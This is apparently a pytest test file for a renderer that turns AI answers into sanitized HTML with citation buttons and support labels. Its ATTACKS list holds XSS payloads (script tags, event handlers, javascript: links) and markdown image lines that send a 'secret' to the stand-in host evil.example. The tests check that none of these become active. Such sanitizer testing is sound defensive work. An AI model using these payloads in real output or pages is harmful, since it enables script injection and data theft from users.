"""An answer's Markdown as HTML: readable, with markers and signs, and with nothing active."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup, Tag

from app.domain.answers import Sentence, Support
from app.rendering.markdown import MarkerLabel, answer_html, paragraphs_html, visible

LABELS = {1: MarkerLabel("Open source 1: Life Events"), 2: MarkerLabel("Open source 2: Rates")}
ALLOWED = {
    *("p", "strong", "em", "ul", "ol", "li", "code", "pre", "h4", "hr", "br", "blockquote"),
    *("div", "table", "thead", "tbody", "tr", "th", "td", "span", "button"),
}
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[1](https://evil.example)",
    "[1]: https://evil.example\n\nSee [1].",
    "<https://evil.example>",
    "<div>\n\n<iframe src='https://evil.example'></iframe>\n\n</div>",
    "| a |\n| --- |\n| <svg onload=alert(1)> |",
    "`<b onclick=x>`\n\n```html\n<script>1</script>\n```",
    '```" onmouseover=alert(1)\nx\n```',
    "<style>body{background:url(https://evil.example)}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "text <!-- hidden --> text",
    "$$\\href{javascript:alert(1)}{x}$$",
)


def tags(html: str) -> list[Tag]:
    return list(BeautifulSoup(html, "html.parser").find_all(True))


def attribute_names(html: str) -> set[str]:
    return {name for tag in tags(html) for name in tag.attrs}


def words(html: str) -> str:
    return BeautifulSoup(html, "html.parser").get_text()


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_answer_becomes_active(attack: str) -> None:
    html = answer_html(attack, (), LABELS)

    assert {tag.name for tag in tags(html)} <= ALLOWED
    harmless = {"type", "class", "data-open", "aria-label", "title", "tabindex"}
    assert attribute_names(html) <= harmless


def test_a_picture_is_shown_as_the_characters_it_is_written_in() -> None:
    html = answer_html("![pixel](https://evil.example/p.png)")

    assert html == "<p>![pixel](https://evil.example/p.png)</p>\n"


def test_a_marker_of_a_source_is_a_button_that_names_it() -> None:
    html = answer_html("You have 60 days [1].", (), LABELS)

    assert html == (
        '<p>You have 60 days <span class="cw-kept"><button type="button" class="cw-marker" '
        'data-open="1" aria-label="Open source 1: Life Events" '
        'title="Open source 1: Life Events">1</button>.</span></p>\n'
    )


def test_a_marker_that_names_no_source_stays_text() -> None:
    html = answer_html("You have 60 days [7].", (), LABELS)

    assert html == "<p>You have 60 days [7].</p>\n"


def test_a_marker_opens_nothing_while_the_answer_is_written() -> None:
    html = answer_html("You have 60 days [1].", unfinished=True)

    assert html == (
        '<p>You have 60 days <span class="cw-kept"><span class="cw-marker">1</span>.</span></p>\n'
    )


def test_a_stop_stays_in_the_line_of_its_markers_and_nothing_else_does() -> None:
    html = answer_html("Both [1][2]. One [1] so", (), LABELS)

    kept = [tag.get_text() for tag in tags(html) if tag.get("class") == ["cw-kept"]]
    assert kept == ["12."]


def test_a_marker_stands_beside_what_a_tables_cell_says() -> None:
    html = answer_html("| fee |\n|---|\n| $20 [1] |", (), LABELS)

    (cell,) = [tag for tag in tags(html) if tag.name == "td"]
    assert cell.get_text() == "$20\xa01"


def test_markers_in_one_bracket_become_one_button_each() -> None:
    html = answer_html("Both say so [1, 2].", (), LABELS)

    assert [tag["data-open"] for tag in tags(html) if tag.name == "button"] == ["1", "2"]


def test_a_label_cannot_break_out_of_its_attribute() -> None:
    html = answer_html("So [1].", (), {1: MarkerLabel('x" onclick="alert(1)')})

    assert attribute_names(html) == {"type", "class", "data-open", "aria-label", "title"}


def test_a_supported_sentence_carries_no_sign() -> None:
    sentences = (Sentence("You have 60 days.", (1,), Support.SUPPORTED),)

    html = answer_html("You have 60 days [1].", sentences, LABELS)

    assert "cw-sign" not in html


@pytest.mark.parametrize(
    "text",
    [
        "You have 60 days.",
        "You have 60 days [1].",
        "You have 60 days. [1]",
        "You have **60 days** [1].",
        "You have\n60 days. More follows.",
        "- You have 60 days [1].\n- Another.",
    ],
)
def test_a_weak_sentence_is_told_in_words_and_underlined(text: str) -> None:
    sentences = (Sentence("You have 60 days.", (1,), Support.WEAK, "Only in part."),)

    html = answer_html(text, sentences, LABELS)

    assert "weak support" in words(html)
    assert 'title="Only in part."' in html
    assert '<span class="cw-weak">' in html


def test_an_unsupported_sentence_is_told_apart_from_its_neighbours() -> None:
    sentences = (
        Sentence("You have 60 days.", (1,), Support.SUPPORTED),
        Sentence("Bring cake.", (), Support.UNSUPPORTED),
    )

    html = answer_html("You have 60 days [1]. Bring cake. Goodbye.", sentences, LABELS)

    assert '<span class="cw-unsupported">Bring cake.</span>' in html
    assert "not supported</span> Goodbye." in html


def test_equal_sentences_are_signed_one_by_one() -> None:
    sentences = (
        Sentence("Yes.", (1,), Support.SUPPORTED),
        Sentence("Yes.", (), Support.UNSUPPORTED),
    )

    html = answer_html("Yes. [1] Yes.", sentences, LABELS)

    assert html.count("not supported") == 1
    assert html.index("</button>") < html.index("not supported")


def test_a_text_that_poses_as_a_sign_is_only_text() -> None:
    html = answer_html("\ue000\ue010Yes\ue001", (Sentence("No.", (), Support.WEAK),), LABELS)

    assert html == "<p>Yes</p>\n"


def test_a_sentence_inside_code_leaves_no_marks_behind() -> None:
    sentences = (Sentence("run citewell", (), Support.WEAK),)

    html = answer_html("`run citewell`", sentences, LABELS)

    assert html == "<p><code>run citewell</code></p>\n"


def test_a_table_scrolls_by_itself() -> None:
    html = answer_html("| Plan | Copay |\n| --- | --- |\n| Gold | $20 |")

    assert html.startswith('<div class="cw-table" tabindex="0"><table>')
    assert "<td>$20</td>" in html


def test_a_heading_of_an_answer_stays_below_those_of_the_page() -> None:
    assert answer_html("# Yes") == "<h4>Yes</h4>\n"


def test_characters_that_hide_or_reorder_are_taken_out() -> None:
    assert visible("a\u202eb\u200bc\ufeffd\x07e") == "abcde"


def test_plain_words_are_never_read_as_markdown() -> None:
    html = paragraphs_html("**a** <b>\n\n![x](y)")

    assert html == "<p>**a** &lt;b&gt;</p><p>![x](y)</p>"
